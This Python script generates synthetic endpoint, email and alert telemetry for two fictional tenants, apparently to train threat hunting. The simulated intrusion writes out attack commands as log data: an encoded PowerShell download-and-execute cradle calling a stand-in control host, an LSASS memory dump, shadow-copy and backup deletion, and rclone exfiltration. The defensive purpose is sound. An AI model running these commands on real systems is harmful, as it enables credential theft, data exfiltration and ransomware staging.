#!/usr/bin/env python3
"""Writes the sample telemetry of two tenants, contoso and fabrikam, beside this file.

    python3 generate.py

Everything follows from the seeds below: two runs write the same bytes. Names, addresses and events
are invented; domains end in .example and outside addresses are of the documentation ranges.
README.md tells the story.
"""

import base64
import datetime
import hashlib
import json
import pathlib
import random

HERE = pathlib.Path(__file__).parent
SYSTEM32 = "C:\\Windows\\System32"
POWERSHELL = SYSTEM32 + "\\WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"

# file name: folder, maker, original name
PROGRAMS = {
    "explorer.exe": ("C:\\Windows", "Microsoft Corporation"),
    "svchost.exe": (SYSTEM32, "Microsoft Corporation"),
    "services.exe": (SYSTEM32, "Microsoft Corporation"),
    "cmd.exe": (SYSTEM32, "Microsoft Corporation"),
    "powershell.exe": (POWERSHELL.rsplit("\\", 1)[0], "Microsoft Corporation"),
    "rundll32.exe": (SYSTEM32, "Microsoft Corporation"),
    "whoami.exe": (SYSTEM32, "Microsoft Corporation"),
    "net.exe": (SYSTEM32, "Microsoft Corporation"),
    "nltest.exe": (SYSTEM32, "Microsoft Corporation"),
    "ipconfig.exe": (SYSTEM32, "Microsoft Corporation"),
    "conhost.exe": (SYSTEM32, "Microsoft Corporation"),
    "taskhostw.exe": (SYSTEM32, "Microsoft Corporation"),
    "schtasks.exe": (SYSTEM32, "Microsoft Corporation"),
    "wmic.exe": (SYSTEM32 + "\\wbem", "Microsoft Corporation"),
    "wmiprvse.exe": (SYSTEM32 + "\\wbem", "Microsoft Corporation"),
    "vssadmin.exe": (SYSTEM32, "Microsoft Corporation"),
    "wbadmin.exe": (SYSTEM32, "Microsoft Corporation"),
    "bcdedit.exe": (SYSTEM32, "Microsoft Corporation"),
    "gpupdate.exe": (SYSTEM32, "Microsoft Corporation"),
    "lsass.exe": (SYSTEM32, "Microsoft Corporation"),
    "msedge.exe": ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
                   "Microsoft Corporation"),
    "chrome.exe": ("C:\\Program Files\\Google\\Chrome\\Application", "Google LLC"),
    "ms-teams.exe": ("C:\\Program Files\\WindowsApps\\MSTeams", "Microsoft Corporation"),
    "OUTLOOK.EXE": (OFFICE, "Microsoft Corporation"),
    "WINWORD.EXE": (OFFICE, "Microsoft Corporation"),
    "EXCEL.EXE": (OFFICE, "Microsoft Corporation"),
    "7z.exe": ("C:\\Program Files\\7-Zip", "Igor Pavlov"),
    "python.exe": ("C:\\Python312", "Python Software Foundation"),
    "psexesvc.exe": ("C:\\Windows", "Sysinternals"),
    "rclone.exe": ("C:\\ProgramData\\sync", ""),
    "backupagent.exe": ("C:\\Program Files\\Tailspin Backup", "Tailspin Toys"),
}

BENIGN_SITES = [
    ("outlook.office.example", "192.0.2.10"), ("teams.office.example", "192.0.2.11"),
    ("sharepoint.office.example", "192.0.2.12"), ("update.windows.example", "192.0.2.20"),
    ("news.fourthcoffee.example", "192.0.2.40"), ("maps.wingtip.example", "192.0.2.41"),
    ("search.adatum.example", "192.0.2.42"), ("cdn.proseware.example", "192.0.2.43"),
]
CONTROL_SITE = ("cdn.telemetry-sync.example", "203.0.113.77")
UPLOAD_SITE = ("files.bluedrop-storage.example", "203.0.113.140")
PHISH_SENDER = "billing@northwind-invoices.example"
PHISH_SUBJECT = "Overdue invoice 88213"
DOCUMENT = "Invoice_88213.docm"


def encoded(script):
    """Writes a script as -EncodedCommand takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def moment(text):
    return datetime.datetime.strptime("2026-" + text, "%Y-%m-%d %H:%M:%S")


class Tenant:
    """Collects the rows of one tenant's tables."""

    def __init__(self, name, domain, users, devices, seed):
        self.name, self.domain = name, domain
        self.random = random.Random(seed)
        self.users = {
            account: {"name": full, "sid": f"S-1-5-21-3021{seed}-778-91{seed}-{1100 + number}"}
            for number, (account, full) in enumerate(users)}
        self.devices = {}
        for number, (device, owner, group) in enumerate(devices):
            digest = hashlib.sha1(f"{name}/{device}".encode()).hexdigest()
            self.devices[device] = {
                "id": digest, "owner": owner, "group": group,
                "name": f"{device}.{domain}",
                "ip": f"10.{20 + seed % 10}.{number // 8}.{21 + number}"}
        self.tables = {}
        self.report = 40_000 + seed
        self.process_id = 3_000

    # -- shared pieces -------------------------------------------------------------------------

    def stamp(self, time):
        return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{self.random.randrange(10**7):07d}Z"

    def add(self, table, time, row):
        """Adds a row, without its empty cells."""
        kept = {key: value for key, value in row.items() if value not in ("", None)}
        self.tables.setdefault(table, []).append((time, kept))

    def next_report(self):
        self.report += self.random.randrange(1, 9)
        return self.report

    def device_columns(self, time, device):
        known = self.devices[device]
        return {"Timestamp": self.stamp(time), "DeviceId": known["id"],
                "DeviceName": known["name"]}

    def account_columns(self, account):
        if account == "system":
            return {"AccountDomain": "nt authority", "AccountName": "system",
                    "AccountSid": "S-1-5-18"}
        return {"AccountDomain": self.name, "AccountName": account,
                "AccountSid": self.users[account]["sid"],
                "AccountUpn": f"{account}@{self.domain}"}

    def program(self, file):
        folder, maker = PROGRAMS[file]
        digest = hashlib.sha256(file.lower().encode()).hexdigest()
        return f"{folder}\\{file}", maker, digest

    # -- rows ----------------------------------------------------------------------------------

    def process(self, time, device, account, file, command, parent, parent_command="",
                elevated=False):
        """Adds a process creation and returns its id."""
        path, maker, digest = self.program(file)
        parent_path, _, parent_digest = self.program(parent)
        self.process_id += self.random.randrange(1, 40) * 4
        identity = self.process_id
        self.add("DeviceProcessEvents", time, {
            **self.device_columns(time, device), "ActionType": "ProcessCreated",
            "FileName": file, "FolderPath": path, "SHA256": digest,
            "FileSize": int(digest[:5], 16),
            "ProcessVersionInfoCompanyName": maker,
            "ProcessId": identity, "ProcessCommandLine": command,
            "ProcessIntegrityLevel": "System" if account == "system" else
            "High" if elevated else "Medium",
            "ProcessTokenElevation": "TokenElevationTypeFull" if elevated else
            "TokenElevationTypeDefault",
            "ProcessCreationTime": self.stamp(time),
            **self.account_columns(account), "LogonId": 100_000 + identity % 977,
            "InitiatingProcessAccountName": account,
            "InitiatingProcessSHA256": parent_digest,
            "InitiatingProcessFileName": parent, "InitiatingProcessFolderPath": parent_path,
            "InitiatingProcessId": identity - 4 * self.random.randrange(1, 400),
            "InitiatingProcessCommandLine": parent_command or parent,
            "ReportId": self.next_report(),
            "AdditionalFields": json.dumps({"IsElevated": elevated}) if elevated else "",
        })
        return identity

    def connection(self, time, device, account, file, site, port=443, succeeds=True, command=""):
        path, _, digest = self.program(file)
        url, address = site
        self.add("DeviceNetworkEvents", time, {
            **self.device_columns(time, device),
            "ActionType": "ConnectionSuccess" if succeeds else "ConnectionFailed",
            "RemoteIP": address, "RemotePort": port, "RemoteUrl": url,
            "LocalIP": self.devices[device]["ip"],
            "LocalPort": 49_152 + self.random.randrange(16_000), "Protocol": "Tcp",
            "RemoteIPType": "Private" if address.startswith("10.") else "Public",
            "InitiatingProcessFileName": file, "InitiatingProcessFolderPath": path,
            "InitiatingProcessSHA256": digest,
            "InitiatingProcessCommandLine": command or file,
            "InitiatingProcessAccountName": account, "ReportId": self.next_report(),
        })

    def logon(self, time, device, account, kind, source=None, succeeds=True, address=None,
              is_admin=False):
        known = self.devices.get(source)
        address = address or (known["ip"] if known else "")
        self.add("DeviceLogonEvents", time, {
            **self.device_columns(time, device),
            "ActionType": "LogonSuccess" if succeeds else "LogonFailed", "LogonType": kind,
            "AccountDomain": self.name, "AccountName": account,
            "AccountSid": self.users[account]["sid"] if account in self.users else "",
            "Protocol": "NTLM" if kind == "Network" else "Negotiate",
            "FailureReason": "" if succeeds else "InvalidUserNameOrPassword",
            "IsLocalAdmin": is_admin if succeeds else None,
            "LogonId": 700_000 + self.next_report() % 9_973 if succeeds else None,
            "RemoteDeviceName": source or "", "RemoteIP": address,
            "RemoteIPType": ("Private" if address.startswith("10.") else "Public")
            if address else "",
            "ReportId": self.next_report(),
        })

    def email(self, time, sender, recipient, subject, threat="", delivered=True, attachments=0,
              urls=0, outbound=False):
        identity = hashlib.md5(f"{self.name}{time}{recipient}{subject}".encode()).hexdigest()
        address = "203.0.113.9" if sender == PHISH_SENDER else f"192.0.2.{60 + len(subject)}"
        self.add("EmailEvents", time, {
            "Timestamp": self.stamp(time),
            "NetworkMessageId": "-".join(
                identity[a:b] for a, b in ((0, 8), (8, 12), (12, 16), (16, 20), (20, 32))),
            "SenderMailFromAddress": sender, "SenderFromAddress": sender,
            "SenderFromDomain": sender.split("@")[1], "SenderIPv4": address,
            "RecipientEmailAddress": recipient, "Subject": subject,
            "EmailDirection": "Outbound" if outbound else
            "Intra-org" if sender.endswith(self.domain) else "Inbound",
            "DeliveryAction": "Delivered" if delivered else "Blocked",
            "DeliveryLocation": "Inbox/folder" if delivered else "Quarantine",
            "ThreatTypes": threat,
            "DetectionMethods": json.dumps({threat: ["File detonation"]}) if threat else "",
            "ConfidenceLevel": json.dumps({threat: "High"}) if threat else "",
            "AttachmentCount": attachments, "UrlCount": urls,
            "AuthenticationDetails": json.dumps(
                {"SPF": "fail" if sender == PHISH_SENDER else "pass",
                 "DKIM": "none" if sender == PHISH_SENDER else "pass"}),
            "EmailLanguage": "en", "ReportId": f"{identity[:12]}-{self.next_report()}",
        })

    def alert(self, time, title, category, severity, techniques, evidence,
              service="Microsoft Defender for Endpoint", source="EDR"):
        """Adds an alert and its evidence: (entity type, role, columns) each."""
        digest = hashlib.sha1(f"{self.name}{title}{time}".encode()).hexdigest()
        identity = f"da{int(digest[:14], 16)}_{int(digest[14:20], 16)}"
        shared = {
            "Timestamp": self.stamp(time), "AlertId": identity, "Title": title,
            "ServiceSource": service, "DetectionSource": source,
            "AttackTechniques": json.dumps(techniques)}
        self.add("AlertInfo", time, {**shared, "Category": category, "Severity": severity})
        for kind, role, columns in evidence:
            self.add("AlertEvidence", time, {
                **shared, "Categories": json.dumps([category]), "EntityType": kind,
                "EvidenceRole": role, "Severity": severity, **columns})

    def machine_evidence(self, device, role="Impacted"):
        known = self.devices[device]
        return ("Machine", role, {"DeviceId": known["id"], "DeviceName": known["name"]})

    def user_evidence(self, account, role="Impacted"):
        return ("User", role, {key: value for key, value in self.account_columns(account).items()})

    def process_evidence(self, device, file, command):
        path, _, digest = self.program(file)
        known = self.devices[device]
        return ("Process", "Related", {
            "FileName": file, "FolderPath": path, "SHA256": digest, "DeviceId": known["id"],
            "DeviceName": known["name"], "ProcessCommandLine": command})

    # -- everyday life -------------------------------------------------------------------------

    def daily_noise(self, days, processes, connections, logons, emails):
        for day in days:
            start = moment(f"{day} 00:00:00")
            self.inventory(start + datetime.timedelta(hours=6))
            for _ in range(processes):
                self.benign_process(self.working_time(start))
            for _ in range(connections):
                self.benign_connection(self.working_time(start))
            for _ in range(logons):
                self.benign_logon(self.working_time(start))
            for _ in range(emails):
                self.benign_email(self.working_time(start))

    def working_time(self, start):
        seconds = int(self.random.triangular(6.5, 19.5, 11) * 3600) + self.random.randrange(60)
        return start + datetime.timedelta(seconds=seconds)

    def anyone(self):
        """Picks a workstation and its owner."""
        owned = [device for device, known in self.devices.items() if known["owner"] in self.users]
        device = self.random.choice(owned)
        return device, self.devices[device]["owner"]

    def benign_process(self, time):
        device, account = self.anyone()
        number = self.random.randrange(1000, 9999)
        choice = self.random.choice([
            ("chrome.exe", f'"chrome.exe" --type=renderer --lang=en-US --renderer-id={number}',
             "explorer.exe", account),
            ("msedge.exe", f'"msedge.exe" --type=utility --service={number}', "explorer.exe",
             account),
            ("ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', "explorer.exe", account),
            ("OUTLOOK.EXE", f'"{OFFICE}\\OUTLOOK.EXE" /recycle', "explorer.exe", account),
            ("WINWORD.EXE", f'"{OFFICE}\\WINWORD.EXE" /n "C:\\Users\\{account}\\Documents\\'
             f'Minutes {number}.docx" /o ""', "explorer.exe", account),
            ("EXCEL.EXE", f'"{OFFICE}\\EXCEL.EXE" "C:\\Users\\{account}\\Documents\\'
             f'Forecast {number}.xlsx"', "OUTLOOK.EXE", account),
            ("svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", "system"),
            ("taskhostw.exe", "taskhostw.exe", "svchost.exe", "system"),
            ("gpupdate.exe", "gpupdate.exe /target:computer", "svchost.exe", "system"),
            ("powershell.exe", "powershell.exe -ExecutionPolicy RemoteSigned -File "
             f"C:\\Admin\\inventory.ps1 -Run {number}", "svchost.exe", "system"),
            ("conhost.exe", "conhost.exe 0xffffffff -ForceV1", "cmd.exe", account),
        ])
        file, command, parent, owner = choice
        self.process(time, device, owner, file, command, parent)

    def benign_connection(self, time):
        device, account = self.anyone()
        file = self.random.choice(["chrome.exe", "msedge.exe", "ms-teams.exe", "OUTLOOK.EXE"])
        self.connection(time, device, account, file, self.random.choice(BENIGN_SITES))

    def benign_logon(self, time):
        device, account = self.anyone()
        if self.random.random() < 0.12:
            self.logon(time, device, account, "Interactive", succeeds=False)
            time += datetime.timedelta(seconds=12)
        self.logon(time, device, account, "Interactive")

    def benign_email(self, time):
        _, account = self.anyone()
        sender, subject = self.random.choice([
            ("newsletter@fourthcoffee.example", "This week's roast"),
            ("orders@proseware.example", f"Order {self.random.randrange(10000, 99999)} shipped"),
            (f"{self.random.choice(list(self.users))}@{self.domain}", "Re: planning"),
            ("helpdesk@" + self.domain, "Your ticket was updated"),
            ("invoices@adatum.example", "Invoice for February"),
        ])
        self.email(time, sender, f"{account}@{self.domain}", subject,
                   attachments=self.random.choice([0, 0, 1]), urls=self.random.randrange(4))

    def inventory(self, time):
        for device, known in self.devices.items():
            is_server = known["group"] == "Servers"
            owner = known["owner"]
            self.add("DeviceInfo", time, {
                **self.device_columns(time, device), "ClientVersion": "10.8760.19045.5011",
                "PublicIP": "198.51.100.200" if self.name == "contoso" else "198.51.100.201",
                "OSArchitecture": "64-bit",
                "OSPlatform": "WindowsServer2019" if is_server else "Windows11",
                "OSBuild": 17763 if is_server else 22631,
                "OSVersion": "10.0", "DeviceType": "Server" if is_server else "Workstation",
                "LoggedOnUsers": json.dumps(
                    [{"UserName": owner, "DomainName": self.name}]) if owner else "[]",
                "MachineGroup": known["group"], "OnboardingStatus": "Onboarded",
                "ExposureLevel": "High" if is_server else
                self.random.choice(["Low", "Low", "Medium"]),
                "AssetValue": "High" if is_server else "Normal",
                "JoinType": "Domain Joined", "ReportId": self.next_report(),
            })

    def vulnerabilities(self, found):
        """Adds (device, vendor, product, version, CVE, severity, update) rows, without time."""
        for device, vendor, product, version, cve, severity, update in found:
            known = self.devices[device]
            is_server = known["group"] == "Servers"
            self.add("DeviceTvmSoftwareVulnerabilities", moment("03-12 00:00:00"), {
                "DeviceId": known["id"], "DeviceName": known["name"],
                "OSPlatform": "WindowsServer2019" if is_server else "Windows11",
                "OSVersion": "10.0", "OSArchitecture": "x64", "SoftwareVendor": vendor,
                "SoftwareName": product, "SoftwareVersion": version, "CveId": cve,
                "VulnerabilitySeverityLevel": severity, "RecommendedSecurityUpdate": update})

    # -- output --------------------------------------------------------------------------------

    def write(self, streamed=()):
        """Writes a file a table; those in `streamed` as the streaming API wraps events."""
        folder = HERE / self.name
        folder.mkdir(exist_ok=True)
        for table, rows in self.tables.items():
            rows.sort(key=lambda row: row[0])
            lines = []
            for time, row in rows:
                if table in streamed:
                    row = {"time": self.stamp(time), "tenantId": self.name,
                           "category": f"AdvancedHunting-{table}", "properties": row}
                lines.append(json.dumps(row, separators=(",", ":"), ensure_ascii=False))
            (folder / f"{table}.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")


def contoso():
    tenant = Tenant("contoso", "contoso.example", [
        ("dreyes", "Dana Reyes"), ("mokoro", "Mika Okoro"), ("jsilva", "Joana Silva"),
        ("pnowak", "Piotr Nowak"), ("ahaddad", "Amal Haddad"), ("lchen", "Lin Chen"),
        ("tberg", "Tove Berg"), ("svc-backup", "Backup service"), ("administrator", "")],
        [("wks-011", "mokoro", "Sales"), ("wks-012", "jsilva", "Sales"),
         ("wks-013", "pnowak", "Sales"), ("wks-014", "dreyes", "Finance"),
         ("wks-015", "ahaddad", "Finance"), ("wks-016", "lchen", "Engineering"),
         ("wks-017", "tberg", "Engineering"), ("fs01", "", "Servers"), ("dc01", "", "Servers"),
         ("bk01", "", "Servers")], seed=1)
    tenant.daily_noise(["03-09", "03-10", "03-11", "03-12"], 24, 28, 12, 9)
    for hour in range(96):
        time = moment("03-09 00:17:00") + datetime.timedelta(hours=hour)
        if hour % 3 == 0:
            tenant.connection(time, "bk01", "svc-backup", "backupagent.exe",
                              ("vault.tailspin.example", "192.0.2.90"), port=8443)
        if hour % 6 == 0:
            tenant.logon(time, "fs01", "svc-backup", "Network", source="bk01", is_admin=True)
    phish(tenant, ["mokoro", "jsilva", "dreyes", "ahaddad"], ["lchen", "tberg"])
    intrusion(tenant)
    spread(tenant)
    ransom_preparation(tenant)
    tenant.vulnerabilities([
        ("wks-014", "microsoft", "office", "16.0.16130.20218", "CVE-2023-23397", "Critical",
         "March 2023 Security Updates"),
        ("wks-014", "microsoft", "office", "16.0.16130.20218", "CVE-2023-36884", "High",
         "August 2023 Security Updates"),
        ("wks-012", "microsoft", "office", "16.0.16130.20218", "CVE-2023-23397", "Critical",
         "March 2023 Security Updates"),
        ("wks-013", "google", "chrome", "116.0.5845.96", "CVE-2023-4863", "High",
         "116.0.5845.187"),
        ("wks-016", "google", "chrome", "116.0.5845.96", "CVE-2023-4863", "High",
         "116.0.5845.187"),
        ("dc01", "microsoft", "windows_server_2019", "10.0.17763.1158", "CVE-2020-1472",
         "Critical", "August 2020 Security Updates"),
        ("dc01", "microsoft", "windows_server_2019", "10.0.17763.1158", "CVE-2021-34527",
         "High", "July 2021 Security Updates"),
        ("fs01", "microsoft", "windows_server_2019", "10.0.17763.1158", "CVE-2021-34527",
         "High", "July 2021 Security Updates"),
        ("bk01", "apache", "log4j", "2.14.1", "CVE-2021-44228", "Critical", "2.17.1"),
    ])
    return tenant


def phish(tenant, reached, stopped):
    for number, account in enumerate(reached + stopped):
        tenant.email(moment(f"03-11 08:4{number}:07"), PHISH_SENDER,
                     f"{account}@{tenant.domain}", PHISH_SUBJECT,
                     threat="" if account in reached else "Malware",
                     delivered=account in reached, attachments=1)


def intrusion(tenant):
    """A macro starts an encoded PowerShell, which fetches an implant that calls home."""
    device, account = "wks-014", "dreyes"
    document = (f"C:\\Users\\{account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                f"Content.Outlook\\QX3T81\\{DOCUMENT}")
    word = f'"{OFFICE}\\WINWORD.EXE" /n "{document}" /o ""'
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{CONTROL_SITE[0]}/a.ps1')"
    shell = f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded(script)}"
    implant = f"rundll32.exe C:\\Users\\{account}\\AppData\\Roaming\\tsync.dat,Start"
    add = tenant.process
    add(moment("03-11 09:07:12"), device, account, "WINWORD.EXE", word, "OUTLOOK.EXE")
    add(moment("03-11 09:08:02"), device, account, "cmd.exe", f"cmd.exe /c {shell}",
        "WINWORD.EXE", word)
    add(moment("03-11 09:08:03"), device, account, "powershell.exe", shell, "cmd.exe",
        f"cmd.exe /c {shell}")
    tenant.connection(moment("03-11 09:08:05"), device, account, "powershell.exe", CONTROL_SITE,
                      port=80, command=shell)
    add(moment("03-11 09:08:31"), device, account, "rundll32.exe", implant, "powershell.exe",
        shell)
    for beat in range(42):
        wobble = tenant.random.randrange(-9, 10)
        time = moment("03-11 09:10:00") + datetime.timedelta(seconds=600 * beat + wobble)
        tenant.connection(time, device, account, "rundll32.exe", CONTROL_SITE, command=implant)
    tenant.alert(moment("03-11 09:08:40"), "Suspicious PowerShell command line", "Execution",
                 "Medium", ["PowerShell (T1059.001)"],
                 [tenant.machine_evidence(device), tenant.user_evidence(account),
                  tenant.process_evidence(device, "powershell.exe", shell),
                  ("Url", "Related", {"RemoteUrl": f"http://{CONTROL_SITE[0]}/a.ps1"}),
                  ("Ip", "Related", {"RemoteIP": CONTROL_SITE[1]})])
    tenant.alert(moment("03-11 09:55:00"), "Malicious mail delivered to several users",
                 "InitialAccess", "Medium", ["Spearphishing Attachment (T1566.001)"],
                 [tenant.user_evidence(name) for name in ("mokoro", "jsilva", account)],
                 service="Microsoft Defender for Office 365", source="MDO")
    for minute, file, command in [
            (31, "whoami.exe", "whoami /all"), (31, "ipconfig.exe", "ipconfig /all"),
            (32, "net.exe", 'net group "domain admins" /domain'),
            (33, "nltest.exe", "nltest /dclist:contoso"),
            (36, "net.exe", "net view \\\\fs01")]:
        add(moment(f"03-11 09:{minute}:20"), device, account, file, command, "cmd.exe",
            "cmd.exe")
    dump = ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 "
            "C:\\Windows\\Temp\\d.tmp full")
    add(moment("03-11 10:12:44"), device, account, "rundll32.exe", dump, "powershell.exe", shell,
        elevated=True)
    tenant.alert(moment("03-11 10:13:10"), "Memory of LSASS was read", "CredentialAccess",
                 "High", ["LSASS Memory (T1003.001)"],
                 [tenant.machine_evidence(device), tenant.user_evidence(account),
                  tenant.process_evidence(device, "rundll32.exe", dump)])


def spread(tenant):
    """Guessed and stolen passwords carry the intruder to two servers."""
    source = "wks-014"
    for guess in range(17):
        time = moment("03-11 10:31:00") + datetime.timedelta(seconds=9 * guess)
        tenant.logon(time, "fs01", "administrator", "Network", source=source, succeeds=False)
    tenant.logon(moment("03-11 10:38:20"), "fs01", "svc-backup", "Network", source=source,
                 is_admin=True)
    start = ('wmic /node:"fs01" process call create "powershell.exe -NoP -enc '
             + encoded("Get-ChildItem D:\\Shares") + '"')
    tenant.process(moment("03-11 10:39:05"), source, "dreyes", "wmic.exe", start, "cmd.exe")
    tenant.connection(moment("03-11 10:39:05"), source, "dreyes", "wmic.exe",
                      ("fs01.contoso.example", tenant.devices["fs01"]["ip"]), port=135,
                      command=start)
    tenant.process(moment("03-11 10:39:07"), "fs01", "svc-backup", "powershell.exe",
                   "powershell.exe -NoP -enc " + encoded("Get-ChildItem D:\\Shares"),
                   "wmiprvse.exe", elevated=True)
    tenant.logon(moment("03-11 11:20:41"), "dc01", "svc-backup", "RemoteInteractive",
                 source=source, is_admin=True)
    tenant.process(moment("03-11 11:22:10"), "dc01", "system", "psexesvc.exe",
                   "C:\\Windows\\psexesvc.exe", "services.exe", elevated=True)
    tenant.process(moment("03-11 11:22:13"), "dc01", "system", "cmd.exe",
                   'cmd.exe /c net user helpdesk-svc "*" /add /domain', "psexesvc.exe",
                   elevated=True)
    tenant.alert(moment("03-11 11:22:30"), "Service started from another device",
                 "LateralMovement", "High", ["SMB/Windows Admin Shares (T1021.002)"],
                 [tenant.machine_evidence("dc01"), tenant.machine_evidence(source, "Related"),
                  tenant.user_evidence("svc-backup"),
                  tenant.process_evidence("dc01", "psexesvc.exe", "C:\\Windows\\psexesvc.exe")])


def ransom_preparation(tenant):
    """Files leave, backups are broken, a task waits for the night."""
    add = tenant.process
    shell = "powershell.exe -NoP -enc " + encoded("Get-ChildItem D:\\Shares")
    add(moment("03-11 13:31:15"), "fs01", "svc-backup", "7z.exe",
        "7z.exe a -mx1 -v500m C:\\ProgramData\\sync\\f.7z D:\\Shares\\Finance", "powershell.exe",
        shell, elevated=True)
    send = "rclone.exe copy C:\\ProgramData\\sync remote:in --transfers 8"
    add(moment("03-11 13:52:40"), "fs01", "svc-backup", "rclone.exe", send, "powershell.exe",
        shell, elevated=True)
    for part in range(6):
        time = moment("03-11 13:53:00") + datetime.timedelta(seconds=140 * part)
        tenant.connection(time, "fs01", "svc-backup", "rclone.exe", UPLOAD_SITE, command=send)
    for device, start in (("fs01", "14:20:05"), ("dc01", "14:23:30")):
        time = moment(f"03-11 {start}")
        for file, command in [
                ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
                ("wbadmin.exe", "wbadmin delete catalog -quiet"),
                ("bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
                ("net.exe", "net stop \"Tailspin Backup\" /y")]:
            add(time, device, "system", file, command, "cmd.exe", "cmd.exe /q", elevated=True)
            time += datetime.timedelta(seconds=4)
    add(moment("03-11 14:31:00"), "dc01", "system", "schtasks.exe",
        "schtasks /create /sc once /st 02:00 /ru system /tn Update "
        "/tr \\\\dc01\\netlogon\\u.exe", "cmd.exe", "cmd.exe /q", elevated=True)
    tenant.alert(moment("03-11 14:20:30"), "Shadow copies were deleted", "Impact", "High",
                 ["Inhibit System Recovery (T1490)"],
                 [tenant.machine_evidence("fs01"), tenant.machine_evidence("dc01"),
                  tenant.process_evidence("fs01", "vssadmin.exe",
                                          "vssadmin delete shadows /all /quiet")])


def fabrikam():
    tenant = Tenant("fabrikam", "fabrikam.example", [
        ("tokafor", "Tobi Okafor"), ("rlind", "Ronja Lind"), ("kpatel", "Kiran Patel"),
        ("evidal", "Eva Vidal"), ("administrator", "")],
        [("fab-lt1", "tokafor", "Field"), ("fab-lt2", "rlind", "Field"),
         ("fab-lt3", "kpatel", "Office"), ("fab-lt4", "evidal", "Office"),
         ("rdp-gw01", "", "Servers")], seed=2)
    tenant.daily_noise(["03-09", "03-10", "03-11", "03-12"], 10, 11, 5, 4)
    phish(tenant, ["evidal"], ["rlind", "kpatel"])
    # The one who got the mail opened nothing, but the address was tried and stopped once.
    tenant.connection(moment("03-11 10:02:11"), "fab-lt4", "evidal", "msedge.exe", CONTROL_SITE,
                      succeeds=False)
    outside = "198.51.100.23"
    for guess in range(36):
        time = moment("03-10 02:14:00") + datetime.timedelta(seconds=21 * guess)
        account = ["administrator", "tokafor", "rlind"][guess % 3]
        tenant.logon(time, "rdp-gw01", account, "RemoteInteractive", succeeds=False,
                     address=outside)
    tenant.logon(moment("03-10 02:27:31"), "rdp-gw01", "tokafor", "RemoteInteractive",
                 address=outside)
    tenant.process(moment("03-10 02:29:05"), "rdp-gw01", "tokafor", "whoami.exe",
                   "whoami /groups", "cmd.exe")
    report = "powershell.exe -EncodedCommand " + encoded("Get-HotFix | Export-Csv C:\\r.csv")
    for day in ("03-09", "03-10", "03-11", "03-12"):
        tenant.process(moment(f"{day} 05:00:00"), "rdp-gw01", "system", "powershell.exe", report,
                       "taskhostw.exe")
    tenant.alert(moment("03-10 02:28:00"), "Many failed logons, then one that worked",
                 "CredentialAccess", "Medium", ["Password Guessing (T1110.001)"],
                 [tenant.machine_evidence("rdp-gw01"), tenant.user_evidence("tokafor"),
                  ("Ip", "Related", {"RemoteIP": outside})])
    tenant.vulnerabilities([
        ("rdp-gw01", "microsoft", "windows_server_2019", "10.0.17763.1158", "CVE-2021-34527",
         "High", "July 2021 Security Updates"),
        ("fab-lt3", "google", "chrome", "116.0.5845.96", "CVE-2023-4863", "High",
         "116.0.5845.187"),
    ])
    return tenant


if __name__ == "__main__":
    contoso().write()
    fabrikam().write(streamed=("AlertInfo", "AlertEvidence"))
